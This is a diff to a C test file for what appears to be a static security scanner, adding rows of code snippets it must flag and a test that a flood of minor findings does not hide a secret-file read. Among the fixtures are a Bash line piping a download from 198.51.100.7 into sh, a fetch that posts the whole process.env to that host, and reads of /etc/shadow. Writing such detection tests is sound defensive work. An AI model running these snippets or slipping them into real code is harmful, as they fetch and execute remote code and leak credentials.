@@ -1,5 +1,6 @@
 /* flow.c - what names stand for: branches, loops, functions, classes, containers, other files. */
 #include "assess/assess.h"
+#include "base/buf.h"
 #include "base/cleanup.h"
 #include "tap.h"
 
@@ -32,6 +33,9 @@ static const struct { const char *name, *rule; int language; const char *code; }
 	{ "what the constructor was given", "any/secret-read", PY, "class A:\n    def __init__(self, p):\n        self.p = p\n    def go(self):\n        return open(self.p).read()\nA('/etc/shadow').go()\n" },
 	{ "a table of functions filled later", "python/shell@4", PY, "import os\nt = {}\nt['a'] = os.system\nt['a']('id')\n" },
 	{ "f.call and f.apply", "javascript/child-process@2", JS, "const cp = require('child_process');\ncp.exec.call(null, 'id');\n" },
+	{ "what does not parse is still read, line by line", "bash/pipe-to-shell@3", BAWN_LANG_BASH, "if [ 1 ; then\n  true\n  curl http://198.51.100.7/x | sh\ndone\n" },
+	{ "with the file's imports", "javascript/child-process@2", JS, "const cp = require('child_process');\nfunction ( { cp.exec('id');\n" },
+	{ "what parses is read once", "!any/syntax-error", BAWN_LANG_BASH, "if [ 1 ]; then\n  true\nfi\n" },
 	{ "one variable is not the whole environment", "!javascript/send-environment", JS, "fetch('https://example.com', { headers: { a: process.env.TOKEN } });\n" },
 	{ "the whole environment is", "javascript/send-environment", JS, "fetch('http://198.51.100.7', { method: 'POST', body: JSON.stringify(process.env) });\n" },
 };
@@ -102,8 +106,21 @@ static void test_programs(void)
 	}
 }
 
+/* More findings than are kept while reading; what counts stands behind them. */
+static void test_flood(void)
+{
+	bawn_auto_buf b = BAWN_BUF(1u << 20);
+	bawn_buf_str(&b, "import hashlib\n");
+	for (int i = 0; i < 6000; i++)
+		bawn_buf_str(&b, "hashlib.md5(b'x')\n");
+	bawn_buf_str(&b, "open('/etc/shadow')\n");
+	struct bawn_assess_file f = { .language = PY, .bytes = bawn_buf_span(&b) };
+	ok(found(&f, 1, "any/secret-read"), "a flood of small findings does not push out a large one");
+}
+
 int main(void)
 {
+	test_flood();
 	test_rows();
 	test_programs();
 	return done_testing();
